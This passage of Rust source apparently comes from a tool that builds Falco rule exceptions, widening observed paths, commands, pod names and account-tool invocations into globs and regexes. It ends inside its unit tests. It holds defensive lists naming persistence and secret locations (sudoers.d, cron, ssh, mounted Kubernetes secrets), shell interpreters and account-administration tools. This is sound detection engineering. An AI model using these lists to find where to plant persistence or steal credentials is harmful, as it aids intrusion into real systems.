    let ExVal::Many(list) = v else { return None };
    match comp {
        "pmatch" => PATH_FAMILIES
            .iter()
            .find(|(_, e)| e.len() == list.len() && e.iter().zip(list).all(|(a, b)| a == b))
            .map(|(l, _)| *l),
        "glob" => {
            let f = list
                .iter()
                .map(|r| family_of(r))
                .collect::<Option<BTreeSet<_>>>()?;
            let [f] = f.into_iter().collect::<Vec<_>>()[..] else {
                return None;
            };
            let (label, names) = HOME_FAMILIES.get(f.checked_sub(PATH_FAMILIES.len())?)?;
            (list.len() >= names.len()).then_some(*label)
        }
        _ => None,
    }
}

/// Top-level directories too broad to be an exception's target on their own.
const BROAD_DIRS: &[&str] = &[
    "/",
    "/etc",
    "/tmp",
    "/var/tmp",
    "/dev/shm",
    "/root",
    "/home",
    "/bin",
    "/sbin",
    "/usr/bin",
    "/usr/sbin",
    "/usr/local/bin",
    "/lib",
    "/usr/lib",
    "/var",
    "/usr",
    "/proc",
    "/dev",
    "/run",
    "/boot",
    "/var/log",
    "/var/lib",
    "/opt",
];

/// Directories where a new file is itself the attack (persistence, credentials, boot,
/// kernel modules, static pods): an exception names the files there, never the directory.
const SENSITIVE_DIRS: &[&str] = &[
    "/etc/cron",
    "/var/spool/cron",
    "/etc/sudoers.d",
    "/etc/init.d",
    "/etc/rc",
    "/etc/profile.d",
    "/etc/pam.d",
    "/etc/security",
    "/etc/ld.so.conf.d",
    "/etc/ssh",
    "/etc/systemd",
    "/lib/systemd",
    "/usr/lib/systemd",
    "/etc/kubernetes",
    "/var/run/secrets",
    "/run/secrets",
    "/boot",
    "/lib/modules",
    "/usr/lib/modules",
    "/root",
];

/// Whether a directory is one where a new file is itself the attack.
pub fn is_sensitive_dir(d: &str) -> bool {
    SENSITIVE_DIRS.iter().any(|s| d.starts_with(s)) || d.contains("/.ssh") || d.contains("/.")
}

fn parent_dir(v: &str) -> Option<&str> {
    let i = v.rfind('/')?;
    (i > 0).then(|| &v[..i])
}

/// The directory the values lie in: `startswith dir/` for one, `pmatch` for a few.
fn directory(field: &str, distinct: &BTreeSet<&str>) -> Option<Gen> {
    let dirs: BTreeSet<&str> = distinct
        .iter()
        .map(|v| parent_dir(v))
        .collect::<Option<_>>()?;
    let ok = |d: &str| {
        d.starts_with('/')
            && !BROAD_DIRS.contains(&d)
            && !is_sensitive_dir(d)
            && d.matches('/').count() >= 2
            && !d.contains("/.")
            && safe_in_list(d)
    };
    if !dirs.iter().all(|d| ok(d)) {
        return None;
    }
    if dirs.len() == 1 {
        let d = dirs.into_iter().next()?;
        return Some(gen(field, "startswith", ExVal::One(format!("{d}/")), 2));
    }
    (dirs.len() <= MAX_IN).then(|| {
        gen(
            field,
            "pmatch",
            ExVal::Many(dirs.into_iter().map(str::to_string).collect()),
            2,
        )
    })
}

/// Interpreters: never the whole actor; their script, module or main class goes in.
pub fn is_interpreter(name: &str) -> bool {
    let n = name.rsplit('/').next().unwrap_or(name);
    let stem = n.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        stem,
        "python"
            | "java"
            | "node"
            | "nodejs"
            | "ruby"
            | "perl"
            | "php"
            | "php-fpm"
            | "sh"
            | "bash"
            | "dash"
            | "zsh"
            | "ash"
            | "ksh"
            | "busybox"
            | "pwsh"
            | "deno"
            | "bun"
    )
}

/// Whether a command line (split on spaces) is a shell running a program given inline
/// (`sh -c PROGRAM`, `bash -c ...`): everything after `-c` is shell text, where a
/// command can be chained or substituted.
pub fn is_shell_program(words: &[&str]) -> bool {
    words.len() >= 3
        && words[1] == "-c"
        && matches!(
            words[0]
                .rsplit('/')
                .next()
                .unwrap_or_default()
                .trim_end_matches(|c: char| c.is_ascii_digit()),
            "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh" | "busybox"
        )
}

/// A word made of digits, with at most `.`, `:` or `,` between them (`48211`, `10`,
/// `1.5`, `0:30`).
fn is_number_word(w: &str) -> bool {
    w.starts_with(|c: char| c.is_ascii_digit())
        && w.chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | ':' | ','))
}

/// Where the command line stops being the command and starts being its arguments: the
/// interpreter's script, module (`-m`), main class or jar; for other tools, the first
/// word that is not an option (the subcommand). A number is an option's value or a
/// count, never a subcommand (`gdb -p 48211 -batch ...`, `tail -n 100 FILE`): a glob
/// after it would take the tool with any arguments. Returns the number of words kept.
pub fn command_words(words: &[&str]) -> usize {
    let Some(argv0) = words.first() else { return 0 };
    let interp = is_interpreter(argv0);
    let mut i = 1;
    while i < words.len() {
        let w = words[i];
        if interp && matches!(w, "-m" | "-jar" | "-cp" | "-classpath" | "-e" | "-r") {
            // The module, jar or class path follows; with -cp the main class comes after it.
            if matches!(w, "-cp" | "-classpath") {
                i += 2;
                continue;
            }
            return (i + 2).min(words.len());
        }
        if interp && w == "-c" {
            // `sh -c CMD`: the command's first word is the "script".
            return (i + 2).min(words.len());
        }
        if w.starts_with('-') || is_number_word(w) {
            i += 1;
            continue;
        }
        return i + 1;
    }
    words.len()
}

/// A file name's variable part in a shell program's regex: one or more word characters,
/// never a blank, a `/`, a `.` or a shell metacharacter.
const RX_WORD: &str = "[A-Za-z0-9_-]+";

/// One literal character in a regex, without a backslash (Falco's quoting cannot carry
/// one): metacharacters as a one-character class. `None` for the characters a class
/// cannot hold that way.
fn rx_char(c: char, out: &mut String) -> Option<()> {
    match c {
        '[' | ']' | '\\' | '^' | '"' => return None,
        '.' | '+' | '*' | '?' | '(' | ')' | '|' | '{' | '}' | '$' => {
            out.push('[');
            out.push(c);
            out.push(']');
        }
        c if c.is_control() => return None,
        c => out.push(c),
    }
    Some(())
}

/// A value as a regex that takes exactly it (every metacharacter as a one-character
/// class). `None` when a character cannot be written that way.
fn literal_regex(v: &str) -> Option<String> {
    let mut out = String::with_capacity(v.len() * 2);
    v.chars().try_for_each(|c| rx_char(c, &mut out))?;
    (!out.is_empty() && safe_for_eq(&out)).then_some(out)
}

/// A directory component that is a version (`16`, `3.11`, `v2.4.1`): the next release's
/// directory holds the same files (`/etc/postgresql/16/main` → `/etc/postgresql/17/main`).
fn version_component(c: &str) -> bool {
    let c = c.strip_prefix('v').unwrap_or(c);
    !c.is_empty()
        && c.split('.').count() <= 4
        && c.split('.')
            .all(|p| !p.is_empty() && p.len() <= 4 && p.chars().all(|ch| ch.is_ascii_digit()))
}

/// A directory in a regex: literal, but a component that is a version takes any version
/// (`[0-9]+([.][0-9]+)*`, after its `v`). Returns whether a version was widened.
fn rx_dir(d: &str, out: &mut String) -> Option<bool> {
    let mut widened = false;
    for (i, comp) in d.split('/').enumerate() {
        if i > 0 {
            out.push('/');
        }
        if version_component(comp) {
            if comp.starts_with('v') {
                out.push('v');
            }
            out.push_str("[0-9]+([.][0-9]+)*");
            widened = true;
        } else {
            comp.chars().try_for_each(|c| rx_char(c, out))?;
        }
    }
    Some(widened)
}

/// A shell's program (`sh -c PROGRAM`) as a regex that takes the same program on another
/// file of the same directories: each word that is a path in a fixed, not broad and not
/// sensitive directory keeps its directory and extension and takes any plain name
/// (`sh -c /fluentd/scripts/nvme_smart.sh` → `sh -c /fluentd/scripts/[A-Za-z0-9_-]+[.]sh`;
/// `... > /var/lib/pg/exports/orders_2026-11-05.csv.gz` → `.../[A-Za-z0-9_-]+[.]csv[.]gz`),
/// a home's owner any plain name, a run of digits elsewhere any run of digits. Everything
/// else is literal, and no part can take a blank or a shell metacharacter, so no command
/// can be chained or substituted into what it takes. `None` when nothing widens.
pub fn shell_program_regex(v: &str) -> Option<String> {
    let words: Vec<&str> = v.split(' ').collect();
    if !is_shell_program(&words) {
        return None;
    }
    let mut out = String::with_capacity(v.len() * 2);
    let mut widened = false;
    for (i, w) in words.iter().enumerate() {
        if i > 0 {
            out.push(' ');
        }
        let home = w.strip_prefix("/home/").and_then(|r| r.split_once('/'));
        let (prefix, path) = match home {
            Some((owner, rest)) if !owner.is_empty() && !rest.is_empty() => {
                widened = true;
                (format!("/home/{RX_WORD}/"), format!("/home/{owner}/{rest}"))
            }
            _ => (String::new(), w.to_string()),
        };
        let dir = parent_dir(&path).filter(|d| {
            let fixed = |d: &str| {
                !BROAD_DIRS.contains(&d)
                    && !is_sensitive_dir(d)
                    && d.matches('/').count() >= 2
                    && !d.contains("/.")
            };
            path.starts_with('/') && (fixed(d) || (!prefix.is_empty() && !d.contains("/.")))
        });
        if let Some(d) = dir {
            let name = &path[d.len() + 1..];
            let (stem, ext) = name.split_once('.').unwrap_or((name, ""));
            if !stem.is_empty()
                && stem
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
            {
                if prefix.is_empty() {
                    rx_dir(d, &mut out)?;
                } else {
                    // `/home/OWNER` and what lies below it.
                    out.push_str(prefix.trim_end_matches('/'));
                    let rest = d["/home/".len()..].split_once('/').map_or("", |(_, r)| r);
                    if !rest.is_empty() {
                        out.push('/');
                        rest.chars().try_for_each(|c| rx_char(c, &mut out))?;
                    }
                }
                out.push('/');
                out.push_str(RX_WORD);
                rx_ext(ext, &mut out)?;
                widened = true;
                continue;
            }
        }
        if let Some(u) = url_file_regex(w) {
            out.push_str(&u);
            widened = true;
            continue;
        }
        if !prefix.is_empty() {
            // A home path not widened by its name: its owner only.
            out.push_str(&prefix);
            let rest = &path["/home/".len()..];
            let rest = rest.split_once('/').map_or("", |(_, r)| r);
            rest.chars().try_for_each(|c| rx_char(c, &mut out))?;
            continue;
        }
        if i > 1 {
            // Digit runs, segment numbers and temp names, as classes of any length.
            widened |= rx_masked_word(w, &mut out)?;
            continue;
        }
        w.chars().try_for_each(|c| rx_char(c, &mut out))?;
    }
    (widened && safe_for_eq(&out)).then_some(out)
}

/// A file name's extension in a regex, after its stem: each component literal but a run of
/// digits, which takes any run of digits (a rotation number: `log.2.gz` → `[.]log[.][0-9]+[.]gz`).
fn rx_ext(ext: &str, out: &mut String) -> Option<()> {
    if ext.is_empty() {
        return Some(());
    }
    for c in ext.split('.') {
        out.push_str("[.]");
        if !c.is_empty() && c.chars().all(|ch| ch.is_ascii_digit()) {
            out.push_str("[0-9]+");
        } else {
            c.chars().try_for_each(|ch| rx_char(ch, out))?;
        }
    }
    Some(())
}

/// A URL word of a shell's program (`https://feeds.example.com/daily/fx.csv`) as a regex
/// that takes another file of the same directory on the same server: the scheme, the
/// server and the directory literal, the file's stem any plain name, its extension as
/// [`rx_ext`] writes it. `None` for anything else (a query string, no file name, another
/// character in the server).
fn url_file_regex(w: &str) -> Option<String> {
    let i = w.find("://")?;
    let scheme = &w[..i];
    let rest = &w[i + 3..];
    let slash = rest.find('/')?;
    let server = &rest[..slash];
    let server_ok = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':');
    if scheme.is_empty()
        || !scheme.chars().all(|c| c.is_ascii_alphabetic())
        || server.is_empty()
        || !server.chars().all(server_ok)
    {
        return None;
    }
    let (dir, name) = rest[slash..].rsplit_once('/')?;
    let (stem, ext) = name.split_once('.').unwrap_or((name, ""));
    let plain = |s: &str| {
        !s.is_empty()
            && s.chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
    };
    let dir_ok = dir
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '_' | '-' | '.'))
        && !dir.contains("..");
    let ext_ok = ext.chars().all(|c| c.is_ascii_alphanumeric() || c == '.');
    if !plain(stem) || !dir_ok || !ext_ok {
        return None;
    }
    let mut out = String::with_capacity(w.len() * 2);
    format!("{scheme}://{server}{dir}/")
        .chars()
        .try_for_each(|c| rx_char(c, &mut out))?;
    out.push_str(RX_WORD);
    rx_ext(ext, &mut out)?;
    Some(out)
}

/// Whether a pattern is one synthesis may emit for Falco's `regex` operator: libsinsp
/// (since libs 0.18.0, Falco 0.39.0) builds each `regex` value with RE2's POSIX syntax
/// and matches it anchored at both ends; quell-rules reads that syntax the same way
/// ([`quell_rules::ops::re2_posix`]: no `(?:...)`, `(?i)`, `\d`, `\w`, `\b`, ...). On top
/// of it, synthesis keeps to patterns a person reads one way: no backslash at all (Falco's
/// quoting of exception values cannot carry one), nothing [`safe_for_eq`] refuses, and no
/// repetition right after another (`a+?` is `(a+)?` in RE2's POSIX syntax, not a lazy `a+`).
pub fn falco_regex(pat: &str) -> bool {
    // quell-rules reads RE2's POSIX syntax as libsinsp does; a stacked repetition is
    // valid there but rewritten as a repeated group (the only `(?:` the reading writes,
    // since a `(?` in the input is refused), and synthesis emits none.
    !pat.is_empty()
        && !pat.contains('\\')
        && safe_for_eq(pat)
        && quell_rules::ops::re2_posix(pat).is_ok_and(|read| !read.contains("(?:"))
}

/// Tools that administer accounts: their argument names the account (`useradd -m kmori`,
/// `gpasswd -a kmori sudo`, `crontab -l -u app`), a per-invocation value like a file name.
const ACCOUNT_TOOLS: &[&str] = &[
    "useradd", "adduser", "usermod", "userdel", "deluser", "groupadd", "groupmod", "gpasswd",
    "passwd", "chage", "chsh", "crontab",
];

/// Any account name but `root` (a regex has no negation: spelled out by prefix). A plain
/// group, not `(?:...)`: Falco compiles `regex` with RE2's POSIX syntax, which has no
/// non-capturing group (see [`falco_regex`]).
const ACCOUNT_RX: &str = "([a-qs-z_][a-z0-9_.-]*|r|r[a-np-z0-9_.-][a-z0-9_.-]*|ro|ro[a-np-z0-9_.-][a-z0-9_.-]*|roo|roo[a-su-z0-9_.-][a-z0-9_.-]*|root[a-z0-9_.-]+)";

/// Whether a word has the shape of an account name (`shadow-utils`' default pattern).
pub(crate) fn is_account_name(w: &str) -> bool {
    (2..=32).contains(&w.len())
        && w.starts_with(|c: char| c.is_ascii_lowercase() || c == '_')
        && w.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-')
}

/// Whether a command line is an account tool's (one of `ACCOUNT_TOOLS`).
pub fn is_account_tool(cmd: &str) -> bool {
    let argv0 = cmd.split(' ').next().unwrap_or_default();
    ACCOUNT_TOOLS.contains(&argv0.rsplit('/').next().unwrap_or_default())
}

/// The positions of the account names in an account tool's command line: the value of
/// `-u`/`--user` (crontab), the first argument of `gpasswd -a|-d`, else the last word
/// (useradd's login), or the first argument right after the tool; and the owner of a
/// `/home/OWNER` argument naming the same account.
pub fn account_words(cmd: &str) -> Vec<usize> {
    let words: Vec<&str> = cmd.split(' ').collect();
    if !is_account_tool(cmd) || words.len() < 2 {
        return Vec::new();
    }
    let tool = words[0].rsplit('/').next().unwrap_or_default();
    let mut out: Vec<usize> = Vec::new();
    for i in 1..words.len() {
        let prev = words[i - 1];
        let by_option = matches!(prev, "-u" | "--user") && tool == "crontab"
            || matches!(prev, "-a" | "-d" | "-M") && tool == "gpasswd";
        if by_option && is_account_name(words[i]) {
            out.push(i);
        }
    }
    if out.is_empty() && tool != "crontab" && tool != "gpasswd" {
        let last = words.len() - 1;
        if is_account_name(words[last]) && !words[last - 1].starts_with("--") {
            out.push(last);
        } else if is_account_name(words[1]) {
            out.push(1);
        }
    }
    out
}

/// An account tool's command line as a regex that takes another account (never `root`)
/// and the same account's home, digit runs and temp names: `useradd -m -s /bin/bash -p *
/// kmori` → `useradd -m -s /bin/bash -p [*] ACCOUNT`. Every other word is literal, so the
/// options (groups, shell) stay what was seen. `None` for other tools or without an
/// account argument.
pub fn account_regex(cmd: &str) -> Option<String> {
    let at = account_words(cmd);
    if at.is_empty() || is_shell_program(&cmd.split(' ').collect::<Vec<_>>()) {
        return None;
    }
    let names: BTreeSet<&str> = cmd
        .split(' ')
        .enumerate()
        .filter(|(i, _)| at.contains(i))
        .map(|(_, w)| w)
        .collect();
    let mut out = String::with_capacity(cmd.len() * 2);
    for (i, w) in cmd.split(' ').enumerate() {
        if i > 0 {
            out.push(' ');
        }
        if at.contains(&i) {
            out.push_str(ACCOUNT_RX);
            continue;
        }
        let home = w
            .strip_prefix("/home/")
            .map(|r| r.split_once('/').map_or((r, ""), |(o, rest)| (o, rest)));
        if let Some((_, rest)) = home.filter(|(o, _)| names.contains(o)) {
            out.push_str("/home/");
            out.push_str(ACCOUNT_RX);
            if !rest.is_empty() || w.ends_with('/') {
                out.push('/');
            }
            rest.chars().try_for_each(|c| rx_char(c, &mut out))?;
            continue;
        }
        rx_masked_word(w, &mut out)?;
    }
    (out.contains(' ') && safe_for_eq(&out)).then_some(out)
}

/// A word in a regex with its digit runs and temp names (as a glob masks them) as word
/// classes of any length (`000000010000000000000042` → `[A-Za-z0-9]+`), the rest literal.
/// Returns whether anything was masked.
fn rx_masked_word(w: &str, out: &mut String) -> Option<bool> {
    let mut changed = false;
    let mut token = String::new();
    let mut flush = |token: &mut String, out: &mut String| -> Option<()> {
        if token.is_empty() {
            return Some(());
        }
        let m = glob_token(token);
        if m == *token {
            token.chars().try_for_each(|c| rx_char(c, out))?;
        } else {
            changed = true;
            out.push_str(m.strip_suffix('*').unwrap_or(""));
            out.push_str("[A-Za-z0-9]+");
        }
        token.clear();
        Some(())
    };
    for c in w.chars() {
        if c.is_ascii_alphanumeric() {
            token.push(c);
        } else {
            flush(&mut token, out)?;
            rx_char(c, out)?;
        }
    }
    flush(&mut token, out)?;
    Some(changed)
}

/// A URL's server side in a word (`https://dl.example.com/v1/x.tgz`, `--url=http://h:8080/`):
/// the word up to and with the server and the `/` after it, and whether a path follows.
/// `None` when the word holds no `scheme://host`.
fn url_server(w: &str) -> Option<(String, bool)> {
    let i = w.find("://")?;
    let scheme_start = w[..i]
        .rfind(|c: char| !c.is_ascii_alphabetic())
        .map_or(0, |j| j + 1);
    let rest = &w[i + 3..];
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let server = &rest[..end];
    let ok = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_' | ':' | '@');
    if scheme_start == i || server.is_empty() || !server.chars().all(ok) {
        return None;
    }
    let (lead, _) = masked(&w[..scheme_start]).unwrap_or_default();
    if scheme_start > 0 && lead.is_empty() {
        return None;
    }
    let path = rest[end..].starts_with('/') && end + 1 < rest.len();
    Some((
        format!("{lead}{}://{server}/", &w[scheme_start..i]),
        path || end < rest.len(),
    ))
}

/// A command that names a URL, through the URL's server, then anything: `curl -sSL -o
/// /tmp/s.zip https://binaries.example.com/*` (the next release's file from the same
/// server; never another server, as `curl -sSL -o /tmp/s.zip *` would take). The words
/// before the URL are masked as [`glob_of`] does. `None` without a URL after the first word.
fn url_prefix(words: &[&str]) -> Option<String> {
    let (u, (server, more)) = words
        .iter()
        .enumerate()
        .skip(1)
        .find_map(|(i, w)| url_server(w).map(|s| (i, s)))?;
    let (head, _) = masked(&words[..u].join(" "))?;
    let tail = if more || u + 1 < words.len() { "*" } else { "" };
    let p = format!("{head} {server}{tail}");
    safe_for_eq(&p).then_some(p)
}

/// The commands naming a URL through each URL's server ([`url_prefix`]) when they give
/// several shapes (two ports, two servers), at most [`MAX_IN`]: one exception row each.
/// `None` when a value names no URL, is a shell's program, or all give one shape
/// ([`script_prefix`] has it then).
fn url_prefixes(distinct: &BTreeSet<&str>) -> Option<BTreeSet<String>> {
    let pats: BTreeSet<String> = distinct
        .iter()
        .map(|v| {
            let words: Vec<&str> = v.split(' ').collect();
            if is_shell_program(&words) {
                return None;
            }
            url_prefix(&words).filter(|p| p.len() >= 6)
        })
        .collect::<Option<_>>()?;
    (pats.len() > 1 && pats.len() <= MAX_IN).then_some(pats)
}

/// The command through its script or subcommand, then anything: `python* /opt/app/job.py *`;
/// a command naming a URL, through the URL's server ([`url_prefix`]).
fn script_prefix(distinct: &BTreeSet<&str>) -> Option<String> {
    let mut pats = BTreeSet::new();
    for v in distinct {
        let words: Vec<&str> = v.split(' ').collect();
        if is_shell_program(&words) {
            // A shell's program followed by anything takes any command chained after it.
            return None;
        }
        if let Some(p) = url_prefix(&words) {
            pats.insert(p);
            continue;
        }
        let n = command_words(&words);
        if n >= words.len() || n < 2 {
            // Nothing follows the script or subcommand: the exact value (or its glob) says it.
            return None;
        }
        // The tool with any arguments (`strace *`) is never a rung: on the live corpus
        // it silenced an attacker's `strace -p <sshd>` from the operator's own lineage.
        let (head, _) = masked(&words[..n].join(" "))?;
        pats.insert(format!("{head} *"));
    }
    // One shape only: several scripts are an `in` list, not a widening.
    let p = (pats.len() == 1).then(|| pats.into_iter().next())??;
    (p.len() >= 6).then_some(p)
}

/// A pod or container name without its generated suffix: a Deployment's
/// `name-<hash>-<5>`, a DaemonSet's or bare ReplicaSet's `name-<5>`, a Job's
/// `name-<digits>-<5>`, a StatefulSet's `name-<ordinal>`. All values must share it.
pub fn controller_prefix(distinct: &BTreeSet<&str>) -> Option<String> {
    let prefixes: BTreeSet<String> = distinct
        .iter()
        .map(|v| pod_prefix(v))
        .collect::<Option<_>>()?;
    let p = (prefixes.len() == 1).then(|| prefixes.into_iter().next())??;
    (p.len() >= 3 && safe_for_eq(&p)).then_some(p)
}

/// A build tool's generated binary: an executable whose directory has a generated part
/// (`/dev/shm/go-build1772003311/b052/queue.test`: a digit run or a hash in a directory
/// name) and whose name has an extension, as the glob over the directory's variable parts
/// and any name with that extension (`/dev/shm/go-build*/b*/*.test`): the next test binary
/// the tool builds there. `None` for a fixed directory (a binary dropped into `/tmp` is
/// not generated by anything) or a name without an extension.
pub fn generated_binary(v: &str) -> Option<String> {
    let (dir, name) = v.rsplit_once('/')?;
    let (stem, ext) = name.rsplit_once('.')?;
    if stem.is_empty()
        || ext.is_empty()
        || ext.len() > 6
        || !ext.chars().all(|c| c.is_ascii_alphanumeric())
        || is_interpreter(name)
    {
        return None;
    }
    let (mdir, changed) = masked(dir)?;
    // The generated part must be below a fixed directory of at least two components.
    let fixed = mdir.split('*').next().unwrap_or_default();
    let (fixed_dir, stem) = fixed.rsplit_once('/').unwrap_or(("", ""));
    // Below a fixed directory of two components (`/dev/shm/go-build*`), or one whose
    // generated name starts with the tool's own word (`/tmp/go-build*`, not `/tmp/*`
    // nor mktemp's `/tmp/tmp.*`).
    let named = stem.chars().filter(char::is_ascii_alphabetic).count() >= 5;
    if !changed
        || !dir.starts_with('/')
        || (fixed_dir.matches('/').count() < 2 && !(named && fixed_dir.matches('/').count() == 1))
    {
        return None;
    }
    let g = format!("{mdir}/*.{ext}");
    safe_for_eq(&g).then_some(g)
}

/// A generated binary's command line with its first word (the binary's own name, or the
/// kernel's 15-character cut of it) as any word, the rest masked as [`glob_of`] does:
/// `queue.test -test.paniconexit0 -test.timeout=10m0s` →
/// `* -test.paniconexit* -test.timeout=*` (the exception's executable glob keeps it to
/// the tool's generated binaries). `None` when the first word is not `name` (the
/// executable's file name) or its cut, or the line is a shell's program.
pub fn generated_command(cmd: &str, name: &str) -> Option<String> {
    let (argv0, rest) = cmd.split_once(' ').unwrap_or((cmd, ""));
    // The kernel keeps 15 characters of a process name, and Falco's command line starts
    // with it: `ledger_store.te` for `ledger_store.test`.
    let comm: String = name.chars().take(15).collect();
    if (argv0 != name && argv0 != comm) || is_shell_program(&cmd.split(' ').collect::<Vec<_>>()) {
        return None;
    }
    let rest = if rest.is_empty() {
        String::new()
    } else {
        // Masked with its leading blank: alone, `-test.count=1` would be a bare word.
        masked(&format!(" {rest}"))?.0
    };
    // Any first word: the next binary's name may be cut (`ledger_store.te`), so its
    // extension cannot be required; the executable's own glob keeps the exception to the
    // generated binaries.
    let g = format!("*{rest}");
    safe_for_eq(&g).then_some(g)
}

/// A pod name with every generated segment (between `-`s: a run of digits, or a token of
/// at least 4 letters and digits mixed) as `*`: `runner-p2s7dk1-project-412-concurrent-0-k2l9c`
/// → `runner-*-project-*-concurrent-*-*`, `rust-build-8f2kd-m2v8c` → `rust-build-*-*`. The
/// words stay (the controller's name); all values must give one glob, with at least one
/// word of 3 letters or more kept, and something generated.
pub fn pod_glob(distinct: &BTreeSet<&str>) -> Option<String> {
    let globs: BTreeSet<String> = distinct
        .iter()
        .map(|v| {
            let mut words = 0;
            let mut changed = false;
            let parts: Vec<&str> = v
                .split('-')
                .map(|s| {
                    if generated_segment(s) {
                        changed = true;
                        "*"
                    } else {
                        if s.chars().filter(char::is_ascii_alphabetic).count() >= 3 {
                            words += 1;
                        }
                        s
                    }
                })
                .collect();
            (changed && words > 0).then(|| parts.join("-"))
        })
        .collect::<Option<_>>()?;
    let g = (globs.len() == 1).then(|| globs.into_iter().next())??;
    safe_for_eq(&g).then_some(g)
}

/// A generated segment of a pod name: a run of digits, or a token of at least 4 letters
/// and digits mixed (`8f2kd`, `p2s7dk1`; not `e2e`, `v2`).
fn generated_segment(s: &str) -> bool {
    let digits = s.chars().filter(char::is_ascii_digit).count();
    !s.is_empty()
        && s.chars().all(|c| c.is_ascii_alphanumeric())
        && digits > 0
        && (digits == s.len() || s.len() >= 4)
}

/// Pods named per user or per instance without a generated suffix (`jupyter-maria`,
/// `jupyter-kenji`; `preview-checkout`): the name up to and with its last `-`, when the
/// part before it is a word of at least 4 characters and the part after it a plain name.
/// Wider than a controller's prefix (any instance of that kind of pod), so a candidate at
/// the widest level only, and only where no controller prefix applies.
pub fn instance_prefix(distinct: &BTreeSet<&str>) -> Option<String> {
    let prefixes: BTreeSet<&str> = distinct
        .iter()
        .map(|v| {
            let (head, tail) = v.rsplit_once('-')?;
            let name_like = |s: &str| {
                !s.is_empty()
                    && s.chars()
                        .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
            };
            let last_word = head.rsplit('-').next().unwrap_or(head);
            (last_word.len() >= 4
                && name_like(head)
                && name_like(tail)
                && (2..=40).contains(&tail.len()))
            .then_some(&v[..=head.len()])
        })
        .collect::<Option<_>>()?;
    let p = (prefixes.len() == 1).then(|| prefixes.into_iter().next())??;
    safe_for_eq(p).then(|| p.to_string())
}

fn pod_prefix(v: &str) -> Option<String> {
    let parts: Vec<&str> = v.split('-').collect();
    if parts.len() < 2 {
        return None;
    }
    let is_suffix5 = |s: &str| {
        s.len() == 5
            && s.chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
    };
    let is_rs_hash = |s: &str| {
        (6..=10).contains(&s.len())
            && s.chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
    };
    let all_digits = |s: &str| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit());
    let n = parts.len();
    let keep = if n >= 3
        && is_suffix5(parts[n - 1])
        && (is_rs_hash(parts[n - 2]) || all_digits(parts[n - 2]))
    {
        n - 2
    } else if (is_suffix5(parts[n - 1]) && parts[n - 1].chars().any(|c| c.is_ascii_digit()))
        || all_digits(parts[n - 1])
    {
        n - 1
    } else {
        return None;
    };
    (keep >= 1).then(|| format!("{}-", parts[..keep].join("-")))
}

/// The server network several server addresses share: /24, else /16 (IPv4 only). One
/// address of the site's own networks ([`site_host_mask`]) gives its /24: the next server
/// of the same service; one outside address gives none.
fn server_net(distinct: &BTreeSet<&str>) -> Option<String> {
    if distinct.len() == 1 {
        let (net, _) = distinct.iter().next().and_then(|a| site_host_mask(a))?;
        return Some(format!("{net}0/24"));
    }
    let ips: Vec<Ipv4Addr> = distinct
        .iter()
        .map(|v| match v.parse::<IpAddr>() {
            Ok(IpAddr::V4(a)) => Some(a),
            _ => None,
        })
        .collect::<Option<_>>()?;
    for bits in [24u32, 16] {
        let mask = u32::MAX << (32 - bits);
        let nets: BTreeSet<u32> = ips.iter().map(|a| u32::from(*a) & mask).collect();
        if nets.len() == 1 {
            let net = Ipv4Addr::from(*nets.iter().next()?);
            if net.is_unspecified() {
                return None;
            }
            return Some(format!("{net}/{bits}"));
        }
    }
    None
}

/// The fields that name a file an event acted on, most specific first.
pub const PATH_TARGETS: &[&str] = &[
    "fd.name",
    "fs.path.name",
    "fs.path.target",
    "fs.path.source",
    "evt.arg.name",
    "evt.arg.pathname",
    "evt.arg.path",
];

/// Whether `fd.name` names a socket rather than a file.
pub fn is_socket_name(v: &str) -> bool {
    v.contains("->") || (!v.starts_with('/') && v.contains(':'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn s(v: &[&str]) -> Vec<String> {
        v.iter().map(|x| x.to_string()).collect()
    }
    fn comps(g: &[Gen]) -> Vec<(String, String, ExVal)> {
        g.iter()
            .map(|g| (g.field.clone(), g.comp.clone(), g.value.clone()))
            .collect()
    }
    fn has(g: &[Gen], field: &str, comp: &str, v: &str) -> bool {
        g.iter()
            .any(|g| g.field == field && g.comp == comp && g.value == ExVal::One(v.into()))
    }

    /// An `in` list of the comma-separated values, in that order.
    fn has_in(g: &[Gen], field: &str, list: &str) -> bool {
        let v: Vec<String> = list.split(',').map(str::to_string).collect();
        g.iter()
            .any(|g| g.field == field && g.comp == "in" && g.value == ExVal::Many(v.clone()))
    }

    #[test]
    fn paths_glob_digit_runs_and_hashes_and_take_the_directory() {
        let g = ladder(
            "fs.path.name",
            &s(&["/var/lib/pg/wal/000000010000000A00000042"]),
        );
        assert_eq!(g[0].comp, "=");
        assert!(
            has(&g, "fs.path.name", "glob", "/var/lib/pg/wal/*"),
            "{:?}",
            comps(&g)
        );
        assert!(has(&g, "fs.path.name", "startswith", "/var/lib/pg/wal/"));
        let g = ladder("fd.name", &s(&["/var/log/app/segment-0007.log"]));
        assert!(
            has(&g, "fd.name", "glob", "/var/log/app/segment-*.log"),
            "{:?}",
            comps(&g)
        );
        // A date and a rotation number.
        let g = ladder("fd.name", &s(&["/var/log/nginx/access.log-20240105.gz"]));
        assert!(has(&g, "fd.name", "glob", "/var/log/nginx/access.log-*.gz"));
        // Two files of one directory: the directory with a trailing slash.
        let g = ladder(
            "fd.name",
            &s(&["/srv/data/export/a.csv", "/srv/data/export/b.csv"]),
        );
        assert!(has(&g, "fd.name", "startswith", "/srv/data/export/"));
        // Several directories: pmatch.
        let g = ladder("fd.name", &s(&["/srv/a/x/f", "/srv/b/y/f"]));
        assert!(g
            .iter()
